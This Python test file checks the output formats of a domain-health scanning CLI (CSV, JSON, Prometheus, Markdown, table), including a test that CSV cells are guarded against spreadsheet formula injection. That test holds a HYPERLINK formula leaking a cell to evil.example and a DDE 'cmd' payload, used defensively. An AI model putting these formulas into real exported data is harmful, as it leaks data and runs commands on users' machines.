"""Every output format of `check`/`scan`: CSV, JSON and Prometheus parsed back by their own readers,
Markdown against a golden file, and `--output` replacing a file atomically."""

from __future__ import annotations

import argparse
import csv
import dataclasses
import datetime as dt
import io
import json
from pathlib import Path

import jsonschema
import pytest
from markdown_it import MarkdownIt
from prometheus_client.parser import text_string_to_metric_families

from checks.model import Expectation, Facts, Finding, HostReport, Severity, ok
from checks.names import unicode_form
from esp_clients import CertificateState, TrackingDomain
from tests.support.data import DATA
from tests.support.scan_schema import SCHEMA, validate_strictly
from tui.cli.formats.csv_rows import COLUMNS
from tui.cli.formats.document import ResultRow, ScanDocument
from tui.cli.formats.json_document import document_json
from tui.cli.formats.write import FORMATS, emit, render
from tui.history.model import Change, FindingHistory, Recorded
from tui.report.document import utc_text

GOLDEN = DATA / "golden" / "scan.md"
STARTED = dt.datetime(2026, 12, 6, 9, 30, tzinfo=dt.UTC)
JUNIPER = "go.xn--jniper-3ya.example"
"""go.jüniper.example as DNS is asked: the Unicode form is shown beside it."""
HOSTILE = 'quote " backslash \\ new\nline, comma | pipe * star `tick` <b>'


def proxied() -> HostReport:
    return HostReport(
        host="links.bluebell.example",
        key="bluebell-sg/links.bluebell.example",
        expectation=Expectation(esp="sendgrid", esp_label="SendGrid"),
        findings=(
            Finding(
                code="dns.proxied",
                severity=Severity.FAIL,
                title="Cloudflare proxy in front of the CNAME",
                detail="The name answers with Cloudflare addresses; the CNAME is hidden.",
                fix="Set links.bluebell.example to DNS only (grey cloud) in Cloudflare.",
                evidence=("links.bluebell.example A 104.16.0.1",),
            ),
            Finding(
                code="blocklist.not_tested",
                severity=Severity.UNKNOWN,
                title="SURBL not tested",
                fix="Use a local resolver.",
            ),
            Finding(
                code="blocklist.not_tested",
                severity=Severity.UNKNOWN,
                title="URIBL not tested",
                fix="Use a local resolver.",
            ),
            ok("caa.ok", "No CAA record restricts issuance"),
        ),
        facts=Facts(
            tls_not_after="2027-01-05T00:00:00+00:00",
            blocklist_verdicts=(("Spamhaus DBL", "listed"), ("SURBL", "not_tested")),
        ),
    )


def hostile() -> HostReport:
    return HostReport(
        host=JUNIPER,
        key=f"juniper-mg/{JUNIPER}",
        expectation=Expectation(esp="mailgun", esp_label="Mailgun"),
        findings=(
            Finding(
                code="esp.not_verified",
                severity=Severity.WARN,
                title=f"ESP says: {HOSTILE}",
                detail=HOSTILE,
                fix=HOSTILE,
            ),
        ),
        facts=Facts(blocklist_verdicts=(("Spamhaus DBL", "clean"),)),
    )


def healthy() -> HostReport:
    return HostReport(
        host="links.acme.example",
        key="acme-sg/links.acme.example",
        expectation=Expectation(esp="sendgrid", esp_label="SendGrid"),
        findings=(ok("dns.ok", "CNAME reaches sendgrid.net"),),
        facts=Facts(),
    )


def view(host: str, *, https: bool | None) -> TrackingDomain:
    return TrackingDomain(
        host=host,
        esp="sendgrid",
        account="bluebell-sg",
        esp_id="1",
        verified=False,
        cname_valid=False,
        expected_target="sendgrid.net",
        https=https,
        certificate=CertificateState(status="none"),
    )


@pytest.fixture
def document() -> ScanDocument:
    rows = (
        ResultRow(
            report=healthy(), brand="Acme", account="acme-sg", esp_view=view("x", https=True)
        ),
        ResultRow(
            report=proxied(),
            brand="Bluebell",
            account="bluebell-sg",
            esp_view=view("links.bluebell.example", https=False),
        ),
        ResultRow(report=hostile(), brand=f"Juniper {HOSTILE}", account="juniper-mg"),
    )
    return ScanDocument(
        command="scan",
        rows=rows,
        started_at=STARTED,
        finished_at=STARTED + dt.timedelta(seconds=4.25),
        version="1.2.3",
        fleet=True,
    )


def rendered(document: ScanDocument, name: str) -> str:
    stream = io.StringIO()
    render(document, name, stream)
    return stream.getvalue()


def csv_records(text: str) -> list[dict[str, str]]:
    """The CSV parsed back, each cell without the formula guard (a `'` before `=`, `+`, `-`, `@`,
    tab or CR) so that it can be compared with what was written."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for column, value in row.items():
            if value[:1] == "'" and value[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                row[column] = value[1:]
    return rows


def expected_records(document: ScanDocument) -> list[dict[str, str]]:
    """Every finding of `document` as the CSV's columns should hold it."""
    records = []
    for row in document.rows:
        for finding in row.report.findings:
            history = document.history_of(row, finding.code)
            records.append(
                {
                    "host": row.host,
                    "host_unicode": unicode_form(row.host) or "",
                    "brand": row.brand,
                    "account": row.account,
                    "esp": row.esp,
                    "health": row.health.value,
                    "code": finding.code,
                    "severity": finding.severity.value,
                    "title": finding.title,
                    "detail": finding.detail,
                    "fix": finding.fix,
                    "since": utc_text(history.since) if history else "",
                    "change": history.change.value if history else "",
                }
            )
    return records


def test_csv_has_a_header_and_one_row_per_finding_that_round_trips(
    document: ScanDocument,
) -> None:
    text = rendered(document, "csv")
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert COLUMNS[-2:] == ("since", "change"), "the same columns with or without history"
    rows = csv_records(text)
    assert rows == expected_records(document)
    odd = next(row for row in rows if row["host"] == JUNIPER)
    assert odd["host_unicode"] == "go.jüniper.example"
    assert odd["fix"] == HOSTILE and odd["brand"] == f"Juniper {HOSTILE}"
    assert odd["severity"] == "warn" and odd["health"] == "warn" and odd["esp"] == "mailgun"
    proxied_rows = [row for row in rows if row["host"] == "links.bluebell.example"]
    assert [row["code"] for row in proxied_rows] == [
        "dns.proxied",
        "blocklist.not_tested",
        "blocklist.not_tested",
        "caa.ok",
    ]
    assert {row["health"] for row in proxied_rows} == {"fail"}
    assert {(row["host_unicode"], row["since"], row["change"]) for row in proxied_rows} == {
        ("", "", "")
    }


def test_csv_keeps_its_columns_and_fills_since_and_change_with_history(
    document: ScanDocument,
) -> None:
    subject = document.rows[1].subject(fleet=True)
    began = STARTED - dt.timedelta(days=3)
    recorded = Recorded(
        scan_id=2,
        at=document.finished_at,
        previous_at=STARTED - dt.timedelta(days=1),
        findings={subject: {"dns.proxied": FindingHistory(since=began, change=Change.SAME)}},
        resolved=(),
    )
    text = rendered(dataclasses.replace(document, recorded=recorded), "csv")
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    rows = csv_records(text)
    proxied = next(row for row in rows if row["code"] == "dns.proxied")
    assert (proxied["since"], proxied["change"]) == ("2026-12-03T09:30:00Z", "same")
    assert sum(1 for row in rows if row["since"]) == 1


def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_as_text() -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click to fix")'
    report = HostReport(
        host="links.brand.example",
        key="links.brand.example",
        expectation=Expectation(esp="mailgun"),
        findings=(
            Finding(
                code="esp.not_verified",
                severity=Severity.WARN,
                title="@SUM(1+1)",
                detail=formula,  # an ESP's message, quoted by the finding
                fix="+cmd|' /C calc'!A0",
            ),
            Finding(code="dns.ok", severity=Severity.OK, title="-12.5", detail="\t=1+1"),
            Finding(code="caa.ok", severity=Severity.OK, title="+3", detail="-", fix="a=b"),
        ),
        facts=Facts(),
    )
    single = ScanDocument(
        command="check",
        rows=(ResultRow(report=report, brand="-2+3"),),
        started_at=STARTED,
        finished_at=STARTED,
    )
    text = rendered(single, "csv")
    raw = list(csv.DictReader(io.StringIO(text, newline="")))
    first, second, third = raw
    assert first["detail"] == "'" + formula
    assert first["title"] == "'@SUM(1+1)" and first["fix"] == "'+cmd|' /C calc'!A0"
    assert first["brand"] == "'-2+3"
    assert second["detail"] == "'\t=1+1"
    assert second["title"] == "-12.5" and third["title"] == "+3", "plain numbers stay numbers"
    assert third["detail"] == "'-" and third["fix"] == "a=b"
    for row in raw:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r") or value in ("-12.5", "+3")
    assert csv_records(text) == expected_records(single)


def test_json_is_valid_against_the_schema_and_says_when_and_what(document: ScanDocument) -> None:
    value = json.loads(rendered(document, "json"))
    validate_strictly(value)
    assert value == json.loads(json.dumps(document_json(document)))
    assert value["generated_at"] == "2026-12-06T09:30:04Z"
    assert value["trackdeck_version"] == "1.2.3"
    assert value["scan"]["duration_seconds"] == 4.25
    assert value["scan"]["health"] == {"fail": 1, "unknown": 0, "warn": 1, "info": 0, "ok": 1}
    bluebell = value["domains"][1]
    assert bluebell["esp_view"]["https"] is False and bluebell["brand"] == "Bluebell"
    assert value["domains"][2]["esp_view"] is None
    assert value["domains"][2]["host_unicode"] == "go.jüniper.example"
    assert "host_unicode" not in value["domains"][1]


def test_the_schema_refuses_what_it_should() -> None:
    now = dt.datetime.now(dt.UTC)
    empty = document_json(ScanDocument(command="check", rows=(), started_at=now, finished_at=now))
    jsonschema.validate(empty, SCHEMA)
    for broken in (
        {**empty, "version": 2},
        {**empty, "generated_at": "yesterday"},
        {key: value for key, value in empty.items() if key != "domains"},
    ):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(broken, SCHEMA)
    undeclared = {**empty, "domains": [{"host": "a.example", "esp": None, "health": "ok",
                                        "findings": [], "surprise": 1}]}  # fmt: skip
    jsonschema.validate(undeclared, SCHEMA)  # the published schema lets consumers ignore it …
    with pytest.raises(jsonschema.ValidationError, match="surprise"):
        validate_strictly(undeclared)  # … the tests do not let the output grow it undeclared


def test_prometheus_parses_with_help_type_and_escaped_labels(document: ScanDocument) -> None:
    text = rendered(document, "prometheus")
    families = {family.name: family for family in text_string_to_metric_families(text)}
    for name in (
        "trackdeck_host_health",
        "trackdeck_finding",
        "trackdeck_tls_certificate_expiry_timestamp_seconds",
        "trackdeck_blocklist_listed",
        "trackdeck_esp_https_enabled",
        "trackdeck_scan_duration_seconds",
        "trackdeck_scan_timestamp_seconds",
        "trackdeck_scan_hosts",
    ):
        assert f"# HELP {name} " in text and f"# TYPE {name} gauge" in text
        assert families[name].type == "gauge" and families[name].documentation
    health = {s.labels["host"]: s.value for s in families["trackdeck_host_health"].samples}
    assert health == {"links.acme.example": 0, "links.bluebell.example": 3, JUNIPER: 1}
    juniper = next(
        s for s in families["trackdeck_host_health"].samples if s.labels["account"] == "juniper-mg"
    )
    assert juniper.labels["brand"] == f"Juniper {HOSTILE}"
    untested = [
        s
        for s in families["trackdeck_finding"].samples
        if s.labels["code"] == "blocklist.not_tested"
    ]
    assert [s.value for s in untested] == [2]
    listed = {
        (s.labels["host"], s.labels["list"]): s.value
        for s in families["trackdeck_blocklist_listed"].samples
    }
    assert listed == {
        ("links.bluebell.example", "Spamhaus DBL"): 1,
        (JUNIPER, "Spamhaus DBL"): 0,
    }
    expiry = families["trackdeck_tls_certificate_expiry_timestamp_seconds"].samples
    assert [s.value for s in expiry] == [dt.datetime(2027, 1, 5, tzinfo=dt.UTC).timestamp()]
    https = {s.labels["host"]: s.value for s in families["trackdeck_esp_https_enabled"].samples}
    assert https == {"links.acme.example": 1, "links.bluebell.example": 0}
    scanned = {s.labels["health"]: s.value for s in families["trackdeck_scan_hosts"].samples}
    assert scanned["fail"] == 1 and scanned["ok"] == 1


def test_prometheus_series_are_unique_and_label_names_consistent(document: ScanDocument) -> None:
    families = text_string_to_metric_families(rendered(document, "prometheus"))
    for family in families:
        series = [tuple(sorted(sample.labels.items())) for sample in family.samples]
        assert len(series) == len(set(series)), family.name
        assert len({tuple(sorted(sample.labels)) for sample in family.samples}) <= 1, family.name


def test_markdown_matches_the_golden_ticket(document: ScanDocument) -> None:
    assert rendered(document, "markdown") == GOLDEN.read_text(encoding="utf-8")


def inline_code(markdown: str) -> list[str]:
    """The contents of every code span, as a CommonMark parser reads them."""
    return [
        child.content
        for token in MarkdownIt("commonmark").parse(markdown)
        if token.type == "inline"
        for child in token.children or ()
        if child.type == "code_inline"
    ]


@pytest.mark.parametrize(
    "fix",
    [
        "Set links.bluebell.example to DNS only (grey cloud) in Cloudflare.",
        "Use a resolver that answers: --resolver IP[:PORT]",
        'brand.example. IN CAA 0 issue "letsencrypt.org"',
        "run `dig +short CNAME x.example` then ``compare``",
        "`quoted` at both ends `",
        HOSTILE,
    ],
)
def test_markdown_fixes_are_code_spans_a_parser_reads_back_exactly(fix: str) -> None:
    report = HostReport(
        host="x.example",
        key="x.example",
        expectation=Expectation(),
        findings=(Finding(code="dns.dangling", severity=Severity.FAIL, title="t", fix=fix),),
        facts=Facts(),
    )
    single = ScanDocument(
        command="check", rows=(ResultRow(report=report),), started_at=STARTED, finished_at=STARTED
    )
    markdown = rendered(single, "markdown")
    assert markdown.startswith("## trackdeck check: 1 host\n")
    assert inline_code(markdown)[-1] == " ".join(fix.split())


def test_every_format_renders_an_empty_scan() -> None:
    now = dt.datetime.now(dt.UTC)
    empty = ScanDocument(command="check", rows=(), started_at=now, finished_at=now)
    for name in FORMATS:
        assert rendered(empty, name).strip() or name in ("csv",)


def test_output_replaces_the_file_atomically_keeping_its_mode(
    document: ScanDocument, tmp_path: Path
) -> None:
    target = tmp_path / "trackdeck.prom"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    emit(document, argparse.Namespace(format="prometheus", json=False, output=target))
    assert target.read_text(encoding="utf-8").startswith("# HELP trackdeck_host_health")
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(path.name for path in tmp_path.iterdir()) == ["trackdeck.prom"]
    fresh = tmp_path / "fresh.csv"
    emit(document, argparse.Namespace(format="csv", json=False, output=fresh))
    assert fresh.stat().st_mode & 0o777 == 0o644


def test_a_dead_resolver_is_said_above_the_table_and_atop_the_ticket() -> None:
    """Said once, on whichever row was reported first after the verdict, it explains every unknown
    row: the table and the ticket put it first, with its fix."""
    down = Finding(
        code="dns.resolver_down",
        severity=Severity.UNKNOWN,
        title="the resolver 192.0.2.53:53 is not answering",
        detail="The resolver 192.0.2.53:53 sent no answer to 3 questions in 2.0s.",
        fix="Use a resolver that answers: --resolver IP[:PORT]",
    )
    rows = [
        ResultRow(report=dataclasses.replace(healthy(), host=f"h{n}.acme.example"), brand="Acme",
                  account="acme-sg")
        for n in range(30)
    ]  # fmt: skip
    rows[17] = dataclasses.replace(
        rows[17], report=dataclasses.replace(rows[17].report, findings=(down,))
    )
    scan = ScanDocument(
        command="scan", rows=tuple(rows), started_at=STARTED, finished_at=STARTED, fleet=True
    )
    assert scan.scan_notices == (down,)
    table = rendered(scan, "table")
    first = table.index(down.title)
    assert first < table.index("h0.acme.example")  # before any row
    assert table[first:].index("fix: Use a resolver that answers") < table[first:].index("h0.")
    ticket = rendered(scan, "markdown")
    assert ticket.index(down.title) < ticket.index("###")  # before the hosts' sections
    assert "`Use a resolver that answers: --resolver IP[:PORT]`" in ticket
    assert rendered(dataclasses.replace(scan, rows=tuple(rows[:17])), "table").count("fix:") == 0
